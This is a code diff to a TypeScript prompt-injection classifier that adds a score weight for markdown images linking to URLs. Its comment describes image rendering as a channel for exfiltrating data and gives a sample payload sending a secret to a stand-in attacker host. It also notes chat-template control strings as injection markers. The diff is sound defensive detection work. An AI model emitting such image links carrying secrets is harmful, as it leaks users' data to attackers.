@@ -49,6 +49,11 @@ const SAFE_TOUCHED_SCORE = 0.1;
 export const ATTACK_THRESHOLD = 0.5;
 /** Weight of a chat-template control string ("<|im_start|>system") found in the text. */
 const TEMPLATE_MARKER_WEIGHT = 0.7;
+/**
+ * Weight of a markdown image pointing at a URL in a document: the usual channel for exfiltrating
+ * data through a client that renders images ("![x](https://attacker/?q=SECRET)").
+ */
+const MARKDOWN_IMAGE_WEIGHT = 0.3;
 /** Weight of a base64 payload that decodes to text; and of one whose text is itself an attack. */
 const PAYLOAD_WEIGHT = 0.3;
 const ATTACK_PAYLOAD_WEIGHT = 0.9;
@@ -168,6 +173,7 @@ export class LocalClassifier implements TextClassifier {
     const { indirect } = this.engine;
     let score = analysis.attack;
     if (hasTemplateMarker(raw)) score = indirect.combine(score, TEMPLATE_MARKER_WEIGHT);
+    if (raw.includes('](http') && raw.includes('![')) score = indirect.combine(score, MARKDOWN_IMAGE_WEIGHT);
     for (const payload of analysis.mayEncode ? findEncodedPayloads(raw) : []) {
       if (this.analyse(payload, false, indirect).attack >= ATTACK_THRESHOLD) {
         score = indirect.combine(score, ATTACK_PAYLOAD_WEIGHT);
